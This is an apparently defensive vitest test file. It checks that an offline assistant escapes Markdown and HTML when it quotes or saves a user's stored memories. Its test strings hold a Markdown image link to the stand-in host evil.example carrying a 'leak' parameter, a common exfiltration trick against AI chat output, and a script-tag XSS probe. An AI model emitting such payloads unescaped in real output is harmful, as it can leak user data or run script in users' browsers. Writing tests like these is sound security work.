import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildTestApp, type TestApp, type TestUser } from '../../test/build-test-app.ts'
import { createAssistant } from './assistant.ts'

let t: TestApp
beforeAll(async () => {
  t = await buildTestApp()
})
afterAll(() => t?.close())

const HOSTILE = 'Pedro said ![x](https://evil.example/?leak=1) <script>alert(1)</script> *loud*'
const ESCAPED =
  'Pedro said !\\[x\\](<https://evil.example/?leak=1>) \\<script\\>alert(1)\\</script\\> \\*loud\\*'

async function ask(user: TestUser, content: string) {
  const assistant = createAssistant({
    services: t.services,
    languageModel: null,
    options: { now: () => new Date('2026-11-26T10:00:00Z') },
  })
  const answer = await assistant.answer({
    userId: user.id,
    content,
    history: [],
    offlineIntroduced: true,
    signal: new AbortController().signal,
    onEvent: () => {},
  })
  return answer.content
}

describe('the offline assistant quoting a memory', () => {
  it('escapes its Markdown as the briefing does: no image, no HTML, no emphasis of its own', async () => {
    const user = await t.createUser()
    await t.factory.memory(user.id, { text: HOSTILE, tags: ['![t](https://evil.example/?tag=1)'] })
    const content = await ask(user, 'What did Pedro say?')
    expect(content).toContain(`${ESCAPED} _(#!\\[t\\](<https://evil.example/?tag=1>))_`)
    expect(content).not.toMatch(/!\[/)
    expect(content).not.toContain('<script>')
  })

  it('escapes what it has just saved', async () => {
    const user = await t.createUser()
    const content = await ask(user, `Remember that ${HOSTILE}`)
    expect(content).toContain(`> ${ESCAPED}`)
    expect(content).not.toMatch(/!\[/)
  })
})
